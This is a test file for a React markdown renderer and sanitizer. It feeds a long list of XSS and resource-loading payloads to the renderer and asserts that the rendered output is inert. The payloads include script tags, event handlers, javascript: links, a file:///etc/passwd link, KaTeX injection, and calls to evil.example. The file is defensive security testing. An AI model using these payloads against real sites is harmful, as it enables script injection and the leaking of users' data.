import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import '../../i18n/i18n.ts'
import { mathPlugins } from './math-plugins.ts'
import { renderBlock } from './render-block.tsx'
import { sanitize } from './sanitize.ts'
import type { HtmlElement, HtmlParent } from './tree.ts'

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="https://evil.example/a.svg#x"></use></svg>',
  '<svg><image href="https://evil.example/a.png" /></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/a.swf"></object>',
  '<embed src="https://evil.example/a.swf">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<link rel="prefetch" href="https://evil.example/">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<style>@import "https://evil.example/a.css";</style>',
  '<style>body{background:url(https://evil.example/a)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<input type="image" src="https://evil.example/a.png">',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<video src="https://evil.example/a.mp4" poster="https://evil.example/a.png"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<video><source src="https://evil.example/a.mp4" onerror="alert(1)"></video>',
  '<picture><source srcset="https://evil.example/a.png"><img></picture>',
  '<img srcset="https://evil.example/a.png 1x">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<div style="background-image:url(https://evil.example/a)">x</div>',
  '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
  '<p onmouseover="alert(1)">x</p>',
  '<a ping="https://evil.example" href="https://ok.example">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php alert(1) ?>',
  '![x](https://evil.example/pixel.png)',
  '![x](http://evil.example/?q=secret "title")',
  '![x](//evil.example/pixel.png)',
  '![x](/attachments/0/display)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](javascript:alert(1))',
  '![x][ref]\n\n[ref]: https://evil.example/pixel.png',
  '[![x](https://evil.example/a.png)](https://ok.example)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://ok.example/1)',
  '[x](app://carat/attachments)',
  '[x](//evil.example)',
  '[x](/rpc)',
  '[x](#user-content-x)',
  '[x](<https://ok.example/" onmouseover="alert(1)>)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://ok.example/"onclick=alert(1)>',
  'https://ok.example/"onclick="alert(1)',
  'a[^1]\n\n[^1]: ![x](https://evil.example/a.png)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/a.png}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\htmlStyle{background:url(https://evil.example/a)}{x}$',
  '$\\htmlClass{a" onclick="alert(1)}{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$$\n\\href{https://evil.example}{<script>alert(1)</script>}\n$$',
  '$\\def\\a{\\a\\a}\\a$',
]

const requesting =
  'script, style, link, meta, base, iframe, object, embed, img, image, use, video, audio, source, form, template'
const requestAttribute =
  /^(on.*|src|srcset|srcdoc|poster|data|action|formaction|background|ping|xlink:href)$/i

const isWebOrMail = /^(https?:\/\/|mailto:)/

/** Everything in the page that could run, ask for something or lead somewhere it must not. */
function harmIn(container: Element): string[] {
  const elements = [...container.querySelectorAll(requesting)].map(({ localName }) => localName)
  const attributes = [...container.querySelectorAll('*')].flatMap(({ localName, attributes }) =>
    [...attributes]
      .filter(({ name, value }) => {
        if (name === 'href') return localName !== 'a' || !isWebOrMail.test(value)
        if (name === 'style') return /url|import|expression/i.test(value)
        return requestAttribute.test(name)
      })
      .map(({ name, value }) => `${localName} ${name}=${value}`),
  )
  return [...elements, ...attributes]
}

afterEach(cleanup)

describe('what a model writes', () => {
  it('has enough hostile payloads to be worth the name', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(60)
  })

  it.each(hostile)('is harmless: %s', (source) => {
    const pages = [null, mathPlugins].map((plugins) => render(renderBlock(source, plugins)))
    expect(pages.flatMap(({ container }) => harmIn(container))).toEqual([])
  })

  it('would be noticed if it were not', () => {
    const page = document.createElement('div')
    page.innerHTML = '<p onclick="a()"><a href="/rpc">x</a></p><iframe srcdoc="x"></iframe>'
    expect(harmIn(page)).toEqual(['iframe', 'p onclick=a()', 'a href=/rpc', 'iframe srcdoc=x'])
  })

  it('keeps good links, mail addresses and formulas', () => {
    const { container } = render(
      renderBlock('[a](https://a.example/x?y=1) <me@a.example> $x^2$', mathPlugins),
    )
    expect([...container.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual([
      'https://a.example/x?y=1',
      'mailto:me@a.example',
    ])
    expect(container.querySelector('.katex')).not.toBeNull()
  })

  it('shows raw HTML as the text it is', () => {
    const { container } = render(renderBlock('a <b>b</b> <!-- c -->', null))
    expect(container.textContent).toBe('a <b>b</b> <!-- c -->')
  })

  it('shows a picture as a link with its words', () => {
    const { getByText } = render(renderBlock('![A red circle](https://a.example/c.png)', null))
    expect(getByText('A red circle').getAttribute('href')).toBe('https://a.example/c.png')
  })
})

describe('sanitize', () => {
  it('removes what no step before it should ever make', () => {
    const bad = (tagName: string, properties: HtmlElement['properties'] = {}): HtmlElement => ({
      type: 'element',
      tagName,
      properties,
      children: [],
    })
    const tree: HtmlParent = {
      children: [
        bad('script'),
        bad('IFRAME', { srcDoc: '<b>' }),
        bad('p', { onClick: 'alert(1)', style: 'background:URL(x)', id: 'kept' }),
        bad('a', { href: 'javascript:alert(1)' }),
        bad('svg', { xLinkHref: 'https://evil.example' }),
      ],
    }
    sanitize()(tree)
    expect(tree.children).toEqual([bad('p', { id: 'kept' }), bad('span'), bad('svg')])
  })
})
